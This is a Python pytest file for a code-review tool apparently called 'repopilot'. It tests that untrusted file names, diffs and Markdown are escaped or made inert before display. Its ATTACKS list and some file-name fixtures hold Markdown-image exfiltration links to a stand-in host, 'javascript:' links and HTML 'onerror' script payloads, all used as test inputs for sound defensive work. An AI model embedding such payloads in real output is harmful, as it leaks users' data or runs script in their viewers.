"""Names and texts of strangers where they are shown: Markdown, elements, the terminal."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from support.index_case import write

from repopilot.agents.review.report import report_markdown
from repopilot.foreign_text import code_span, escaped, is_plain_name, visible, visible_values
from repopilot.results import Answer, ReviewReport
from repopilot.types import FileChange, Finding
from repopilot.ui.chats.chat_list import ListedChat
from repopilot.ui.chats.chat_store import Exchange
from repopilot.ui.frame.chat_export import as_markdown
from repopilot.ui.trace.step_text import inert

HIDDEN = ["\u202e", "\u2066", "\u200b", "\x1b[2J", "\x9b", "\x07", "\ufeff", "\U000e0041", "\x7f", "\u2028", "\ud800"]
MARKDOWN = MarkdownIt("commonmark").enable("table")


@pytest.mark.parametrize("mark", HIDDEN)
def test_what_is_hidden_is_shown_as_an_escape(mark: str) -> None:
    shown = visible(f"pay{mark}gpj.py")
    assert mark not in shown and "\\u" in shown
    assert json.loads(escaped(json.dumps([f"a{mark}b"], ensure_ascii=False))) == [f"a{mark}b"]
    assert not is_plain_name(f"a{mark}b.py")


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("\u0430uth.py", "\\u0430uth.py"),  # Cyrillic а
        ("conf\u0456g/\u0391PI.md", "conf\\u0456g/\\u0391PI.md"),
        ("модуль/скидка.py", "модуль/скидка.py"),
        ("load_割引率.py", "load_割引率.py"),
        ("café.py", "café.py"),
        ("λx.py", "λx.py"),
        ("a\r\nb\tc", "a\r\nb\tc"),
    ],
)
def test_letters_that_pose_as_latin_are_marked(name: str, shown: str) -> None:
    assert visible(name) == shown


def test_elements_get_visible_texts_but_send_back_what_they_got() -> None:
    props = {"path": "\u0430.py", "rows": [["+", None, 3, "if x\u202e"]], "key": "\u0430a"}
    assert visible_values(props, frozenset({"key"})) == {
        "path": "\u0430.py",
        "rows": [["+", None, 3, "if x\\u202e"]],
        "key": "\u0430a",
    }


ATTACKS = [
    "![x](https://evil.example/?d=1)",
    "[click](https://evil.example/?d=1)",
    "[click](/?offer=https://evil.example/r)",
    "[click](javascript:alert(1))",
    "[click]( <https://evil.example>)",
    "[click][1]\n\n[1]: https://evil.example/?d=1",
    "![x][1]\n\n[1]: https://evil.example/?d=1",
    "<img src=https://evil.example>",
    "<a href='https://evil.example'>x</a>",
    "`` [x](https://evil.example) `",
    "``` a`b\n[x](https://evil.example)",
    "~~~\n```\n~~~\n[x](https://evil.example)",
    " ```\n```\n[x](https://evil.example)",
    "- ```\n  a\n  ```\n\n[x](https://evil.example)",
    "| a | b |\n|---|---|\n| `x | [y](https://evil.example) ` |",
    "\\` [x](https://evil.example) `",
    "a `b\n\nc` [x](https://evil.example) `d`",
    "[a\\](b](https://evil.example)",
    "[x](&#104;ttps://evil.example)",
    "<https://evil.example>",
    "`[](``[x](https://evil.example/)",
]


def active(markdown: str) -> list[str]:
    """Where links and images of Markdown lead, and its HTML."""
    found = []
    for block in MARKDOWN.parse(markdown):
        for token in (block, *(block.children or ())):
            if token.type in ("link_open", "image"):
                found.append(str(token.attrs.get("href") or token.attrs.get("src")))
            elif token.type in ("html_inline", "html_block"):
                found.append(token.content)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_link_image_or_html_of_a_stranger_is_active(attack: str) -> None:
    assert active(inert(attack)) == []


PIECES = [
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
    " ",
    "[x](https://e.example/)",
    "![x](//e.example)",
    "|",
    "- ",
    "> ",
    "\\",
]
PIECES += ["[x][1]", "[1]: https://e.example\n", "<b>", "a", "    ", "](", "https:", "]", "["]


@pytest.mark.slow
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_no_arrangement_of_markdown_is_active(text: str) -> None:
    assert [found for found in active(inert(text)) if re.search(r"e\.example", found)] == []


@pytest.mark.slow
def test_a_name_that_is_markdown_and_html_is_only_a_name(tmp_path: Path) -> None:
    names = ["<img src=x onerror=alert(1)>.py", "[a](http:evil.example).py", "\u0430uth.py", "-rf.py", "q\"u'o.py"]
    hidden = ["b\u202eyp.py", "n\nl.py", "`t`.py", "e\x1b[31m.py"]
    root = write(tmp_path / "odd", {name: f"def find_{n}():\n    pass\n" for n, name in enumerate([*names, *hidden])})
    environment = {"REPOPILOT_HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin", "PYTHONPATH": "."}

    def run(*arguments: str) -> str:
        command = [sys.executable, "-m", "repopilot", *arguments]
        return subprocess.run(command, env=environment, capture_output=True, text=True, check=True).stdout

    indexed = run("index", str(root), "--json")
    assert {skip["path"] for skip in json.loads(indexed)["skipped"]} == set(hidden)
    shown = run("search", str(root), "find_2")
    for text in (indexed, shown):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
    assert "\\u0430uth.py" in shown and "\u0430uth.py" not in shown


@given(st.text(alphabet="a` *_<>&\\", min_size=1, max_size=30).filter(str.strip))
def test_a_code_span_shows_the_line_as_it_is(text: str) -> None:
    (inline,) = [token for token in MARKDOWN.parse(f"- x: {code_span(text)} y") if token.type == "inline"]
    (code,) = [child for child in inline.children or () if child.type == "code_inline"]
    assert code.content == " ".join(text.split())


@pytest.mark.parametrize("line", ["```", "`````", "x = 1"])
def test_no_line_of_an_excerpt_or_a_diff_ends_its_block(line: str) -> None:
    finding = Finding("a.md", 1, "high", "r", "wrong", "ruff", "style")
    report = ReviewReport("all", "c" * 40, (finding,), reviewed=("a.md",), excerpts={"a.md:1": f"{line}\n# no heading"})
    change = FileChange("a.md", "modified", f"@@ -1,2 +1,2 @@\n {line}\n # no heading\n-a\n+b", "")
    chat = ListedChat("1", "r", "A chat", 1, 0.0)
    exported = as_markdown(chat, [Exchange("q", "", Answer("Done.", files=(change,)))])
    for markdown in (report_markdown(report), exported):
        blocks = [block for block in MARKDOWN.parse(markdown) if block.type == "fence"]
        assert len(blocks) == 1 and line in blocks[0].content and "no heading" in blocks[0].content
